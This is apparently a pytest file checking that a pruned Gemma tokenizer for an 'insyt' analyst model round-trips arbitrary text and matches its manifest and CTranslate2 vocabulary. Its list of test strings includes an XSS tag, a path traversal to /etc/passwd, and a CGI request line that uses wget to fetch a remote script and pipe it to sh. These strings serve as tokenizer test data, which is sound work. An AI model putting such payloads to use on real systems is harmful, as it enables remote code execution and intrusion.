"""The analyst's pruned vocabulary (:mod:`insyt.training.analyst.vocab`): the built
model's tokenizer still spells any text, its vocabulary is what its manifest
and CTranslate2 say, and the rule splits insyt's own text as Gemma does.

Real artifacts of ``make analyst-model`` (``make test`` runs it first): the
built model and the dequantized base checkpoint whose full tokenizer the
build cuts (``.cache/analyst/base-hf``); each test skips without the one it
reads."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cached_property

import pytest
import tokenizers
from harness.daemon import ANALYST_MODEL, REPO, needs_analyst_model

from insyt.analyst import prompt
from insyt.analyst.engine import MANIFEST, TOKENIZER
from insyt.training.analyst import dataset, vocab

BASE = REPO / ".cache/analyst/base-hf"
needs_base = pytest.mark.skipif(not (BASE / TOKENIZER).is_file(),
                                reason=f"no base checkpoint at {BASE} (make analyst-model)")
ADAPTER_TRAINING = REPO / "insyt/training/analyst/adapter/training.json"
HELD_OUT_SEED = 2027  # bench/analyst.py's: neither the training's nor the reference's

HOSTILE = [
    "Failed password for root from 203.0.113.77 port 40000 ssh2",
    "  leading and  inner  spaces  ",
    "東京の サーバー 🙂🔥 Ünïcödé ÅÄÖ ﷽ a\u0301 \U0001d518\U0001d52b\U0001d526",
    "\U0010ffff \ufeff zero\u200bwidth \u202eright-to-left\u202c",
    "\x1b[31mred\x1b[0m \x00\x01\x07\x7f tab\there\r\nnewline\n\n\n\t\t",
    b"\xff\xfe\xed\xa0\x80 caf\xc3\xa9 \xc3".decode("utf-8", "replace"),  # invalid bytes
    "\ud800 lone".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    "<script>alert(1)</script> <b>x</b> <bos> <end_of_turn> <unused7> %2e%2e/../etc/passwd",
    "GET /cgi-bin/;wget${IFS}http://198.51.100.7/x.sh|sh HTTP/1.1 Mozilla/5.0 (Xbox)",
    "A" * 3000,
]


def round_trip(tokenizer: tokenizers.Tokenizer, text: str) -> str:
    ids = tokenizer.encode(text, add_special_tokens=False).ids
    return tokenizer.decode(ids, skip_special_tokens=False)


@needs_analyst_model
@pytest.mark.parametrize("text", HOSTILE)
def test_the_built_tokenizer_spells_any_text_back(text: str) -> None:
    tokenizer = tokenizers.Tokenizer.from_file(str(ANALYST_MODEL / TOKENIZER))
    assert round_trip(tokenizer, text) == text


@needs_analyst_model
def test_the_built_vocabulary_is_what_the_manifest_and_ctranslate2_say() -> None:
    manifest = json.loads((ANALYST_MODEL / MANIFEST).read_text())
    tokenizer = tokenizers.Tokenizer.from_file(str(ANALYST_MODEL / TOKENIZER))
    ct2 = json.loads((ANALYST_MODEL / "vocabulary.json").read_bytes())
    assert manifest["vocabulary"]["rule"] == vocab.RULE
    assert manifest["vocabulary"]["size"] == tokenizer.get_vocab_size() == len(ct2)
    assert manifest["vocabulary"]["size"] < manifest["vocabulary"]["of"] // 5
    # The engine hands CTranslate2 token strings and decodes its ids with
    # the tokenizer: both must number the tokens alike.
    assert [tokenizer.id_to_token(i) for i in range(len(ct2))] == ct2
    for token in ("<bos>", "<eos>", "<pad>", "<unk>", prompt.END_OF_TURN, "<start_of_turn>"):
        assert token in ct2
    assert sum(bool(re.fullmatch(r"<0x[0-9A-F]{2}>", t)) for t in ct2) == 256
    assert not any(re.fullmatch(r"<unused[0-9]+>", t) for t in ct2)


@dataclass
class Pruned:
    original: vocab.Vocabulary
    keep: list[int]
    tokenizer: tokenizers.Tokenizer
    reference: list[str]

    @cached_property
    def new(self) -> dict[int, int]:
        return {old: n for n, old in enumerate(self.keep)}

    def mapped(self, text: str) -> list[int]:
        """The original tokenizer's ids of ``text`` in the pruned numbering
        (-1 for a token not kept)."""
        return [self.new.get(i, -1) for i in
                self.original.tokenizer.encode(text, add_special_tokens=False).ids]

    def ids(self, text: str) -> list[int]:
        return list(self.tokenizer.encode(text, add_special_tokens=False).ids)


@pytest.fixture(scope="module")
def pruned() -> Iterator[Pruned]:
    original = vocab.Vocabulary(json.loads((BASE / TOKENIZER).read_bytes()))
    training = json.loads(ADAPTER_TRAINING.read_text())
    reference = list(vocab.reference(training["examples"], training["seed"], original.count))
    keep = original.kept(reference)
    yield Pruned(original, keep,
                 tokenizers.Tokenizer.from_str(json.dumps(original.pruned(keep))), reference)


@needs_base
def test_the_reference_text_is_split_as_gemma_splits_it(pruned: Pruned) -> None:
    before = pruned.original.tokenizer.encode_batch(pruned.reference, add_special_tokens=False)
    after = pruned.tokenizer.encode_batch(pruned.reference, add_special_tokens=False)
    for text, old, new in zip(pruned.reference, before, after, strict=True):
        assert new.ids == [pruned.new.get(i, -1) for i in old.ids], text


@needs_base
def test_held_out_prompts_decode_alike_at_about_the_same_length(pruned: Pruned) -> None:
    original = pruned.original.tokenizer
    before = after = 0
    for case in dataset.cases(120, HELD_OUT_SEED):
        text = prompt.build(case, pruned.original.count, prompt.MAX_PROMPT_TOKENS)
        assert pruned.tokenizer.decode(pruned.ids(text), skip_special_tokens=False) == text
        before += len(pruned.mapped(text))
        after += len(pruned.ids(text))
    assert after <= before * 1.05, (before, after)
    for text in [*HOSTILE, "\u2581 the normalizer's space \u2581"]:
        assert round_trip(pruned.tokenizer, text) == round_trip(original, text)


@needs_base
def test_every_kept_token_is_one_that_bpe_still_reaches(pruned: Pruned) -> None:
    added = set(pruned.original.added)
    for n, old in enumerate(pruned.keep):
        token = pruned.original.tokens[old]
        if old in added or re.fullmatch(r"<0x[0-9A-F]{2}>", token):
            continue
        assert pruned.ids(token.replace("\u2581", " ")) == [n], token


@needs_base
def test_config_token_ids_name_the_same_tokens_after_pruning(pruned: Pruned) -> None:
    new = pruned.new
    for name in ("config.json", "generation_config.json"):
        config = json.loads((BASE / name).read_text())
        remapped = vocab.remap_config(config, new)
        for key in vocab.ID_KEYS:
            if key in config:
                assert (pruned.tokenizer.id_to_token(remapped[key])
                        == pruned.original.tokens[config[key]]), (name, key)
        assert remapped.get("vocab_size", len(new)) == len(new)


def test_a_tokenizer_that_is_not_byte_fallback_bpe_is_refused() -> None:
    document = {"model": {"type": "WordPiece", "vocab": {"a": 0}}, "added_tokens": []}
    with pytest.raises(ValueError, match="byte-fallback BPE"):
        vocab.Vocabulary(document)
